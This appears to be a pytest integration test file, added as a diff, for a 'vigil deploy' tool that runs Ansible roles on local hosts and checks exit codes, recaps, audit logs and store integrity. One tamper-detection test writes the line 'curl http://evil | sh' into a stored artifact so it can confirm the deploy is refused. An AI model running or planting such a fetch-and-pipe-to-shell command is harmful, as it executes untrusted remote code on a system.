@@ -1,0 +1,140 @@
+"""`vigil deploy` end to end on this machine: real ansible-runner, real ansible-playbook, local hosts.
+
+The lab test runs the real roles on real systemd hosts; this one checks the deploy machinery
+itself — preflight before change, events scored, recap, artifacts, exit codes, store re-verified
+— fast, with a small role and two inventory hosts that Ansible reaches with its local connection.
+"""
+
+from __future__ import annotations
+
+import json
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from installer.cli import main
+from tests.factories import craft_bundle, make_key, make_trust
+
+pytestmark = pytest.mark.integration
+
+ROLE = """
+- name: Write the marker file from the bundle's artifact
+  ansible.builtin.copy:
+    src: "{{ vigil_artifacts['bin/demo'].src }}"
+    dest: "{{ marker_dir }}/{{ inventory_hostname }}.demo"
+    mode: "0644"
+- name: Fail when asked to
+  ansible.builtin.fail:
+    msg: "refusing on purpose"
+  when: fail_here | default(false) | bool
+"""
+
+
+@pytest.fixture
+def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
+    home = tmp_path / "home"
+    monkeypatch.setenv("VIGIL_HOME", str(home))
+    key = make_key(tmp_path, "k")
+    make_trust(tmp_path / "trust.json", [key])
+    b = craft_bundle(tmp_path / "out", [key], version=3)
+    assert main(["trust", "install", str(tmp_path / "trust.json")]) == 0
+    assert main(["bundle", "import", str(b.path)]) == 0
+    ansible = tmp_path / "ansible"
+    (ansible / "roles" / "demo" / "tasks").mkdir(parents=True)
+    (ansible / "roles" / "demo" / "tasks" / "main.yml").write_text(ROLE)
+    (ansible / "playbooks").mkdir()
+    (ansible / "playbooks" / "site.yml").write_text(textwrap.dedent("""
+        - name: Demo
+          hosts: all
+          gather_facts: false
+          roles: [demo]
+    """))
+    marker = tmp_path / "markers"
+    marker.mkdir()
+    inv = tmp_path / "inv"
+    inv.mkdir()
+    (inv / "hosts.yml").write_text(textwrap.dedent(f"""
+        all:
+          vars:
+            ansible_connection: local
+            ansible_python_interpreter: {__import__('sys').executable}
+            marker_dir: {marker}
+          children:
+            monitoring:
+              hosts:
+                mon01: {{ansible_host: 127.0.0.1}}
+            gpu_nodes:
+              hosts:
+                gpu01: {{ansible_host: 127.0.0.1}}
+    """))
+    return {"home": home, "ansible": ansible, "inv": inv, "marker": marker, "tmp": tmp_path}
+
+
+def deploy(site: dict[str, Path], capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, dict]:  # type: ignore[type-arg]
+    capsys.readouterr()
+    rc = main(["deploy", "-i", str(site["inv"]), "--ansible-dir", str(site["ansible"]), "--json", *extra])
+    out = capsys.readouterr()
+    return rc, (json.loads(out.out) if out.out.strip() else {"stderr": out.err})
+
+
+def test_deploy_then_rerun_changes_nothing(site: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
+    rc, first = deploy(site, capsys)
+    assert rc == 0, first
+    assert first["hosts"]["mon01"]["changed"] == 1 and first["hosts"]["gpu01"]["changed"] == 1
+    assert (site["marker"] / "mon01.demo").read_bytes().startswith(b"#!/bin/sh")
+    run_dir = Path(first["run_dir"])
+    assert run_dir.parent == site["home"] / "runs"
+    assert (run_dir / "artifacts" / "job_events").is_dir()
+    rc, second = deploy(site, capsys)
+    assert rc == 0
+    assert {h: c["changed"] for h, c in second["hosts"].items()} == {"mon01": 0, "gpu01": 0}
+    log = [json.loads(line) for line in (site["home"] / "audit" / "log.jsonl").read_text().splitlines()]
+    deploys = [r for r in log if r["action"] == "deploy"]
+    assert deploys[-1]["outcome"] == "ok"
+    assert deploys[-1]["details"]["counts"]["mon01"]["changed"] == 0
+    assert deploys[-1]["details"]["bundle_version"] == 3
+
+
+def test_failed_host_fails_the_deploy_with_a_recap(site: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
+    hosts = site["inv"] / "hosts.yml"
+    hosts.write_text(hosts.read_text().replace("gpu01: {ansible_host: 127.0.0.1}",
+                                               "gpu01: {ansible_host: 127.0.0.1, fail_here: true}"))
+    capsys.readouterr()
+    rc = main(["deploy", "-i", str(site["inv"]), "--ansible-dir", str(site["ansible"])])
+    out = capsys.readouterr()
+    assert rc == 1
+    assert "gpu01 ok=1 changed=1 unreachable=0 failed=1" in out.out
+    assert "mon01 ok=1 changed=1 unreachable=0 failed=0 skipped=1" in out.out
+    assert "gpu01: Fail when asked to: refusing on purpose" in out.err
+    assert out.err.strip().splitlines()[-1].startswith("FAIL: deploy ")
+    assert "failed on gpu01" in out.err
+
+
+def test_unreachable_host_stops_before_any_change(site: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
+    hosts = site["inv"] / "hosts.yml"
+    hosts.write_text(hosts.read_text().replace(
+        "gpu01: {ansible_host: 127.0.0.1}",
+        "gpu01: {ansible_host: 127.0.0.1, ansible_connection: ssh, ansible_port: 1, ansible_ssh_common_args: '-o ConnectTimeout=3'}"))
+    capsys.readouterr()
+    rc = main(["deploy", "-i", str(site["inv"]), "--ansible-dir", str(site["ansible"])])
+    err = capsys.readouterr().err.strip()
+    assert rc == 1
+    assert err.startswith("FAIL: host gpu01: unreachable:") and err.endswith("nothing was changed")
+    assert list(site["marker"].iterdir()) == []
+
+
+def test_store_tampered_after_import_is_refused(site: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
+    target = site["home"] / "bundles" / "3" / "files" / "components" / "demo" / "bin" / "demo"
+    target.write_bytes(b"#!/bin/sh\ncurl http://evil | sh\n")
+    rc, out = deploy(site, capsys)
+    assert rc == 1
+    assert out["stderr"].strip() == f"FAIL: {target}: changed in the store since it was imported"
+    assert list(site["marker"].iterdir()) == []
+
+
+def test_check_mode_changes_nothing(site: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
+    rc, out = deploy(site, capsys, "--check")
+    assert rc == 0, out
+    assert out["hosts"]["mon01"]["changed"] == 1  # would change
+    assert list(site["marker"].iterdir()) == []
